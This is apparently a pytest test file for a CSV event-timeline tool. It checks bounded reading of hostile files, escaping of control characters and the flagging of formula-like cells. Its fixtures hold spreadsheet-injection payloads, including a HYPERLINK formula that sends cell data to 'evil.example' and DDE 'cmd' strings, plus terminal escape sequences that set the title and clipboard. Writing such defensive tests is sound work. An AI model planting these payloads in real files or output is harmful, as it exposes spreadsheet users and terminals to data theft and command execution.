"""Hostile input files (issue 17, parts 2, 5 and 6): bounded reading and reporting, clean output,
and cells a spreadsheet would run.

Each test is one attack of the issue, made small: what it must not cost (rows made, problems
held, lines printed) is counted, never timed; benchmarks/hostile_files.py measures the 20 MB
files' time and memory.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

import timeline.csvfile as csvfile
from timeline.cli import cli
from timeline.components import banner
from timeline.csvfile import read_table
from timeline.events import EventLoader
from timeline.rules import FORMULA, safe_url
from timeline.problems import LIMIT, Problem, counted, kind, limited, shown, summary
from timeline.store import _problem

HEADER = "date,end_date,reported,title,actors,kind,status,location,source,url,notes\n"


def check(data: bytes, name: str = "events.csv"):
    return EventLoader(cache=False).check(data, name)


def run(*args):
    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def in_tmp(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def csv_rows(monkeypatch):
    """How many rows csv's reader gives the loader (blank ones included)."""
    made = {"rows": 0}
    reader = csv.reader

    class Reader:  # csv's reader with line_num, counting the rows it gives
        def __init__(self, *args, **kwargs):
            self._reader = reader(*args, **kwargs)

        def __iter__(self):
            return self

        def __next__(self):
            row = next(self._reader)
            made["rows"] += 1
            return row

        @property
        def line_num(self):
            return self._reader.line_num

    monkeypatch.setattr(csvfile.csv, "reader", Reader)
    return made


# --- 2. bounded files: blank rows ---------------------------------------------------------------

def test_a_header_and_many_blank_lines_is_never_a_row_per_line(csv_rows):
    data = (HEADER + "\n" * 100_000 + "2025-11-21,,,Talks,Ukraine\n").encode()
    dataset, problems = check(data)
    assert problems == [] and dataset.frame["id"].tolist() == [100_002]
    assert csv_rows["rows"] < 10  # the header, a run taken out, the row: not 100,000 blank rows


def test_lines_of_blanks_spaces_and_commas_are_taken_out_and_lines_still_counted(csv_rows):
    blank = "\n" * 50 + " ,\n" * 50 + "\r\n \t\r\n" * 50
    table, problems = read_table((blank + "a,b\n" + blank + "1,2\n" + blank + "3,4\n").encode(), "f.csv")
    assert problems == []
    assert table.header == ["a", "b"]
    assert table.rows == [(402, ["1", "2"]), (603, ["3", "4"])]  # 200 blank lines before each
    assert csv_rows["rows"] < 10


def test_blank_lines_inside_a_quoted_note_are_its_text_even_after_a_stray_quote():
    # The stray quote in 'x"y' (a plain cell for csv) makes the count of quotes even inside the
    # note: the run is taken out, csv finds no row ending before it, and the text is read again.
    note = "note" + "\n" * 12 + "end"
    table, problems = read_table(f'a,b\nx"y,"{note}"\n5,6\n'.encode(), "f.csv")
    assert problems == []
    assert table.rows == [(2, ['x"y', note]), (15, ["5", "6"])]


@pytest.mark.parametrize("data", [
    b"\n" * 20 + b"a,b\n" + b"\r\n" * 20 + b"1,2\r\n" + b"\r" * 20 + b"3,4\r", b" ,\n" * 9 + b"a,b\n1,2",
    b'a,b\n1,"open\n' + b"\n" * 20 + b"x\n", b'a,b\n"x"y,1\n' + b"\n" * 20 + b"2,3\n" + b"\n" * 9 + b"\xff,4\n",
    b"a,b\n1,2\n" + b"\n  ,\r" * 20 + b" ,x\n",
])
def test_taking_out_blank_runs_reads_as_reading_them(data, monkeypatch):
    fast, fast_problems = read_table(data, "f.csv")
    monkeypatch.setattr(csvfile, "MIN_RUN", 1 << 62)
    slow, slow_problems = read_table(data, "f.csv")
    assert fast.rows == slow.rows and fast.header == slow.header
    assert [str(p) for p in fast_problems] == [str(p) for p in slow_problems]


def test_a_file_of_short_rows_is_read_a_width_at_a_time_with_missing_cells_blank():
    table, problems = read_table(b"a,b,c\nx\n1,2\n1,2,3\n1,2,3,4\n,,\ny\n", "f.csv")
    assert problems == []
    assert table.rows == [(2, ["x"]), (3, ["1", "2"]), (4, ["1", "2", "3"]), (5, ["1", "2", "3", "4"]), (7, ["y"])]
    assert [list(column) for column in table.columns] == [["x", "1", "1", "1", "y"], ["", "2", "2", "2", ""],
                                                          ["", "", "3", "3", ""]]
    assert table.wide == {3: ["1", "2", "3", "4"]}


# --- 2. bounded files: problems capped per file ---------------------------------------------------

def x_rows(count: int) -> bytes:
    return (HEADER + "x\n" * count).encode()


def test_the_first_problems_are_listed_in_full_and_the_others_summed_up_by_kind():
    _, problems = check(x_rows(5000))  # each row: date unreadable, title empty, no actor
    listed = [p for p in problems if not p.summed]
    assert len(listed) == LIMIT
    assert listed[:3] == [
        Problem("events.csv", 2, "date", '"x" is relative to when the story was written: fill in the reported column'),
        Problem("events.csv", 2, "title", "is empty"),
        Problem("events.csv", 2, "actors", "names no actor (separate several with ;)"),
    ]
    assert listed[-1].line == 335  # 1,000 problems: 333 rows of three, and one of 335's
    # The first 1,000 rows too short for a required column are read, each rule's problems summed up
    # past the listed ones; the other 4,000 are only counted: one error each, never read.
    assert [str(p) for p in problems if p.summed] == [  # after the listed ones, by first line, then column
        "events.csv:335-1001: actors: 667 more errors not listed: names no actor (separate several with ;)",
        "events.csv:335-1001: title: 667 more errors not listed: is empty",
        'events.csv:336-1001: date: 666 more errors not listed: "…" is relative to when the story was written: '
        "fill in the reported column",
        "events.csv:1002-5001: 4,000 more errors not listed: has too few fields to hold a cell in each required "
        "column (date, title, actors)",
    ]
    assert counted(problems) == 7_000
    assert summary("events.csv", problems) == "events.csv: invalid: 7,000 errors"


def test_check_prints_the_capped_list_and_the_page_shows_the_same_messages(in_tmp):
    (in_tmp / "events.csv").write_bytes(x_rows(5000))
    result = run("check", "events.csv")
    printed = result.stdout.splitlines()
    assert result.exit_code == 1
    assert len(printed) == LIMIT + 4 + 1  # the listed problems, one line per kind, the verdict
    assert printed[-1] == "events.csv: invalid: 7,000 errors"
    _, problems = check(x_rows(5000))
    assert printed[:-1] == [str(p) for p in problems]
    shown_on_page = banner(tuple(problems), "events.csv", shown_data=False)
    assert shown_on_page[0].children.startswith("events.csv has 7,000 errors")
    lines = shown_on_page[1].children.splitlines()
    assert lines[:-1] == printed[:8] and lines[-1] == "… and 6,992 more"


def test_rows_too_short_for_a_required_column_are_counted_past_the_first_thousand_and_left_out():
    """A short row whose required cell is missing is an error whatever it holds: past the first
    LIMIT, such rows are never read (a file of ten million of them costs what blank lines cost),
    yet a partial read still leaves every one of them out."""
    rows = "".join(f"2025-11-{1 + i % 28:02d},Talks {i},Ukraine\n" if i % 3 == 0 else "2025-11-21,Talks\n"
                   for i in range(3000))
    data = ("date,title,actors\n" + rows).encode()
    short = [line for line in range(2, 3002) if (line - 2) % 3]
    table, _ = read_table(data, "f.csv", required=("date", "title", "actors"))
    assert len(table) == 1000 + LIMIT and table.unread_lines().tolist() == short[LIMIT:]
    dataset, problems = EventLoader(cache=False).check(data, "events.csv", partial=True)
    assert len(dataset.frame) == 1000 and dataset.left_out.tolist() == short
    assert counted(problems) == 2000


def test_undecodable_lines_are_listed_up_to_the_limit_then_counted():
    data = b"date,title,actors\n" + b"2025-11-21,Caf\xe9,Ukraine\n" * 1500
    table, problems = read_table(data, "f.csv")
    assert len(table) == 1500
    assert [str(p) for p in problems[:1]] == ["f.csv:2: byte 0xe9 at character 15 is not UTF-8; save the file as UTF-8"]
    assert problems[LIMIT - 1].line == LIMIT + 1 and not problems[LIMIT - 1].summed
    assert str(problems[LIMIT]) == ("f.csv:1002-1501: 500 more errors not listed: byte … at character … is not "
                                    "UTF-8; save the file as UTF-8")
    assert len(problems) == LIMIT + 1


def test_rows_csv_refuses_are_listed_up_to_the_limit_then_counted():
    data = b"a,b\n" + b'"x"y,1\n' * 1200 + b"2,3\n"
    table, problems = read_table(data, "f.csv")
    assert table.rows == [(1202, ["2", "3"])]
    assert len(problems) == LIMIT + 1
    assert problems[LIMIT].summed and (problems[LIMIT].count, problems[LIMIT].line, problems[LIMIT].last) == (
        200, 1002, 1201)


def test_undecodable_lines_and_refused_rows_together_are_listed_up_to_the_limit():
    data = b"a,b\n" + b"\xff,1\n" * 800 + b'"x"y,1\n' * 800
    _, problems = read_table(data, "f.csv")
    listed = [p for p in problems if not p.summed]
    assert len(listed) == LIMIT and listed[-1].line == 1001
    assert [(p.count, p.line, p.last) for p in problems if p.summed] == [(600, 1002, 1601)]  # refused rows


def test_rows_appended_to_a_file_with_many_warnings_add_to_its_summary():
    row = "2025-11-21,,,Talks,Ukraine\n"
    data = (HEADER + row * 1500).encode()
    loader = EventLoader(cache=False)
    dataset, problems = loader.check(data, "events.csv")
    assert dataset is not None and counted(problems, warning=True) == 1499  # each the same event as line 2
    more = data + row.encode() * 2
    dataset, appended = loader.check(more, "events.csv")
    assert loader.last_read == "appended"
    assert counted(appended, warning=True) == 1501
    assert [str(p) for p in appended] == [str(p) for p in check(more)[1]]


def test_limited_keeps_the_first_of_each_file_and_sums_up_the_rest():
    problems = [Problem("a.csv", line, "date", f'cannot read "{line}" as a date') for line in range(2, 8)]
    problems += [Problem("b.csv", 2, None, "x")]
    kept = limited(problems, limit=2)
    assert kept[:3] == [problems[0], problems[1], problems[-1]]
    assert kept[3:] == [Problem("a.csv", 4, "date", 'cannot read "…" as a date', False, 4, 7)]
    assert limited(kept, limit=2) == kept  # a summary summed up again stays what it was


def test_a_summary_keeps_its_count_and_lines_through_the_store():
    problem = Problem("e.csv", 1002, "title", "the same event as line …", True, 499, 1501)
    assert Problem(*_problem(problem)) == problem
    plain = Problem("e.csv", 3, "title", "x", True)
    assert Problem(*_problem(plain)) == plain


def test_kind_leaves_out_values():
    assert kind('"Kyiv; 5" is not one of: talks, meeting') == '"…" is not one of: talks, meeting'
    assert kind("is 2,345 characters long; the limit is 200") == "is … characters long; the limit is …"
    assert kind("byte 0xe9 at character 12 is not UTF-8") == "byte … at character … is not UTF-8"


# --- 5. clean output ----------------------------------------------------------------------------------

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07"  # clear the screen, set the title, the clipboard


def test_messages_escape_control_characters():
    problem = Problem("e\x1b.csv", 3, "kind", f'"{ESCAPES}" is not one of: talks')
    text = str(problem)
    assert "\x1b" not in text and "\x07" not in text
    assert text == 'e\\x1b.csv:3: kind: "\\x1b[2J\\x1b]0;owned\\x07\\x1b]52;c;ZXZpbA==\\x07" is not one of: talks'
    assert shown("a\tb\nc\x00\x7f\x9b") == "a\\tb\\nc\\x00\\x7f\\x9b"


def test_check_and_normalize_print_cells_escaped_on_any_output(in_tmp):
    (in_tmp / "events.csv").write_text(HEADER + f"2025-11-21,,,Talks,Ukraine,{ESCAPES},,,,,\n", encoding="utf-8")
    for command in ("check", "normalize"):
        result = run(command, "events.csv")
        assert result.exit_code == 1
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "events.csv:2: kind: " in result.output


def test_the_page_banner_shows_the_same_escaped_messages():
    _, problems = check((HEADER + "2025-11-21,,,Ti\x1b[2Jtle,Ukraine\n").encode())
    lines = banner(tuple(problems), "events.csv", shown_data=False)[1].children
    assert lines == 'events.csv:2: title: holds a control character ("\\x1b") at character 3; remove it'


@pytest.mark.parametrize("control", ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x9b"])
def test_a_control_character_in_a_cell_is_an_error_naming_line_and_column(control):
    dataset, problems = check((HEADER + f"2025-11-21,,,Talks,Ukraine,,,Gen{control}eva,,,\n").encode())
    assert dataset is None
    assert problems == [Problem("events.csv", 2, "location",
                                f'holds a control character ("{control}") at character 4; remove it')]


def test_tabs_and_line_breaks_inside_quoted_notes_stay_allowed():
    dataset, problems = check((HEADER + '2025-11-21,,,Talks,Ukraine,,,,,,"one\ttwo\nthree\r\nfour"\n').encode())
    assert problems == []
    assert dataset.frame["notes"].tolist() == ["one\ttwo\nthree\r\nfour"]


def test_a_date_with_a_nul_inside_is_not_read():
    dataset, problems = check((HEADER + "2025-11\x00-11,,,Talks,Ukraine\n").encode())
    assert dataset is None
    assert [str(p) for p in problems] == ['events.csv:2: date: holds a control character ("\\x00") at character 8; '
                                          "remove it"]


@pytest.mark.parametrize("url", ["https://example.org/\x1b]0;x\x07", "https://example.org/a\x07b",
                                 "https://exa\x00mple.org/"])
def test_a_url_holding_a_control_character_is_not_valid(url):
    assert not safe_url(url)


def test_a_url_with_an_escape_sequence_is_an_error_in_check():
    _, problems = check((HEADER + "2025-11-21,,,Talks,Ukraine,,,,,https://x.org/\x1b]8;;evil\x07,\n").encode())
    assert {(p.column, p.message.split(" is ")[-1]) for p in problems if not p.warning} >= {
        ("url", "not an absolute http:// or https:// address")}


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-16"])
def test_a_utf16_file_gets_an_encoding_hint(encoding):
    data = (HEADER + "2025-11-21,,,Переговори в Женеві,Україна\n" * 100).encode(encoding)
    dataset, problems = check(data)
    assert dataset is None
    assert [str(p) for p in problems] == [
        "events.csv: looks like UTF-16 (every other byte is 0), not UTF-8; save the file as UTF-8 "
        "(in Excel: CSV UTF-8)"]


def test_a_nul_or_two_in_a_utf8_file_is_not_taken_for_utf16():
    dataset, problems = check((HEADER + "2025-11-21,,,Ta\x00lks,Ukraine\n").encode())
    assert [p.message for p in problems] == ['holds a control character ("\x00") at character 3; remove it']


# --- 6. cells that look like formulas -----------------------------------------------------------------

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(A1:A9)", "-cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=cmd", "+A1", "-2+3", "=Sheet1!A1", "+Sheet1!B2",
            "-$A$1", "= 1", "+ HYPERLINK(x)"]
ORDINARY = ["-30 °C in Kyiv", "+2 more talks", "@username says hello", "- Talks (Geneva)", "-5", "+1 (202) 555-0100",
            "Talks = progress", "Geneva talks", "", "-", "+", "@", "\tGeneva", "=", "-A1 highway closed"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_like_cells_are_found(cell):
    assert FORMULA.match(cell)


@pytest.mark.parametrize("cell", ORDINARY)
def test_ordinary_text_starting_with_a_sign_is_not(cell):
    assert not FORMULA.match(cell)


def test_check_warns_on_a_formula_in_any_column_and_the_file_stays_valid():
    data = (HEADER.strip() + ",extra\n" + '2025-11-21,,,"=HYPERLINK(""http://evil"",""x"")",Ukraine,,,,,,'
            "-30 °C in Kyiv,@SUM(1)\n").encode()
    dataset, problems = check(data)
    assert dataset is not None
    assert [(p.line, p.column, p.warning) for p in problems] == [(2, "title", True), (2, "extra", True)]
    assert problems[0].message.startswith('"=HYPERLINK("http://evil…" would run as a formula in a spreadsheet')


def test_add_warns_about_a_formula_and_writes_it_as_given(in_tmp):
    (in_tmp / "events.csv").write_text("date,title,actors\n2025-11-21,Talks,Ukraine\n", encoding="utf-8")
    result = run("add", "events.csv", "--date", "2025-11-22", "--title", "=1+2", "--actors", "Ukraine")
    assert result.exit_code == 0
    assert 'events.csv:3: warning: title: "=1+2" would run as a formula in a spreadsheet' in result.stderr
    assert (in_tmp / "events.csv").read_text(encoding="utf-8").endswith("2025-11-22,=1+2,Ukraine\n")


def test_add_refuses_a_cell_with_a_control_character_and_leaves_the_file_as_it_was(in_tmp):
    before = "date,title,actors\n2025-11-21,Talks,Ukraine\n"
    (in_tmp / "events.csv").write_text(before, encoding="utf-8")
    result = run("add", "events.csv", "--date", "2025-11-22", "--title", "Ti\x1b]0;owned\x07tle", "--actors", "Ukraine")
    assert result.exit_code == 1
    assert "\x1b" not in result.output
    assert 'events.csv:3: title: holds a control character ("\\x1b") at character 3; remove it' in result.stderr
    assert (in_tmp / "events.csv").read_text(encoding="utf-8") == before


def test_normalize_safe_for_spreadsheets_puts_a_quote_before_each_cell_that_begins_like_a_formula(in_tmp):
    (in_tmp / "events.csv").write_text(
        "date,title,actors,notes\n"
        '2025-11-21,"=HYPERLINK(""http://evil"")",Ukraine,-30 °C in Kyiv\n'
        "2025-11-22,+2 more talks,Ukraine,@SUM(1)\n"
        "2025-11-23,Geneva talks,Ukraine,\"\tindented\"\n", encoding="utf-8")
    plain = run("normalize", "events.csv")
    safe = run("normalize", "--safe-for-spreadsheets", "events.csv")
    assert plain.exit_code == safe.exit_code == 0
    rows = list(csv.reader(io.StringIO(safe.stdout)))
    assert rows[1][1:4] == ["'=HYPERLINK(\"http://evil\")", "Ukraine", "'-30 °C in Kyiv"]
    assert rows[2][1:4] == ["'+2 more talks", "Ukraine", "'@SUM(1)"]
    assert rows[3][1:4] == ["Geneva talks", "Ukraine", "'\tindented"]
    assert list(csv.reader(io.StringIO(plain.stdout)))[1][1] == '=HYPERLINK("http://evil")'
    # nothing else changes
    unquoted = [[cell.removeprefix("'") for cell in row] for row in rows]
    assert unquoted == list(csv.reader(io.StringIO(plain.stdout)))


def test_the_readme_documents_the_formula_rule():
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    assert "**Cells that look like formulas.**" in readme and "--safe-for-spreadsheets" in readme
